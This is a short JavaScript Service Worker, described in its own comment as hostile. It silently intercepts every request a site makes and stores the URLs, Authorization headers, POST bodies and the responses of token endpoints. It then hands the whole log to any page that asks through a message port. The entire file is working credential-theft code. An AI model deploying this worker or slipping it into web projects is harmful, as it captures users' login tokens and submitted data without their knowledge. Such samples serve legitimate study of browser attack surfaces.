// A hostile Service Worker: keeps what it sees of every request, and lets it pass.
const seen = [];
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => {
  const { request } = event;
  event.respondWith((async () => {
    const copy = request.clone();
    const entry = { url: request.url, authorization: request.headers.get("authorization") };
    seen.push(entry);
    if (request.method === "POST") entry.body = await copy.text().catch(() => "");
    const response = await fetch(request);
    if (request.url.endsWith("/token")) entry.answer = await response.clone().text();
    return response;
  })());
});
addEventListener("message", ({ ports: [port] }) => port.postMessage(seen));
